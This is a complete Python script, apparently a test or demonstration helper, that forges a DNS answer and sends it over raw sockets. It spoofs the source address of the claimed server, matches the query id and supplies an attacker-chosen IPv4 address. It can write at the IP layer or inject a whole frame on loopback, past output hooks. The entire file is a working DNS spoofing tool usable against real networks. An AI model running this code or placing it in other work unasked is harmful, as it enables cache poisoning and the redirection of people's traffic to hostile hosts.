"""Sends one forged DNS answer, as a program with CAP_NET_RAW can: from whatever address it likes.

Arguments: how, the server that it pretends to be, the receiver and its port, the question's id, the
name, and the IPv4 address that the answer gives. How: `ip` writes from the IP header on; `lo`
writes a whole frame onto the loopback interface, which no output hook sees.
"""

from __future__ import annotations

import socket
import struct
import sys

ETHERTYPE_IP = 0x0800


def answer(number: int, name: str, address: str) -> bytes:
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    asked = labels + b"\0" + struct.pack("!2H", 1, 1)
    record = b"\xc0\x0c" + struct.pack("!2HIH", 1, 1, 300, 4) + socket.inet_aton(address)
    return struct.pack("!6H", number, 0x8180, 1, 1, 0, 0) + asked + record


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def packet(source: str, destination: str, port: int, payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram from port 53, without a UDP checksum (RFC 768)."""
    udp = struct.pack("!4H", 53, port, 8 + len(payload), 0) + payload
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    fixed = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0)
    header = fixed[:10] + struct.pack("!H", checksum(fixed + ends)) + ends
    return header + udp


def main() -> None:
    how, server, receiver, port, number, name, address = sys.argv[1:]
    forged = packet(server, receiver, int(port), answer(int(number), name, address))
    if how == "ip":
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            raw.sendto(forged, (receiver, 0))
    else:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
            raw.bind(("lo", ETHERTYPE_IP))
            raw.send(bytes(12) + struct.pack("!H", ETHERTYPE_IP) + forged)
    print("forged", flush=True)  # noqa: T201


if __name__ == "__main__":
    main()
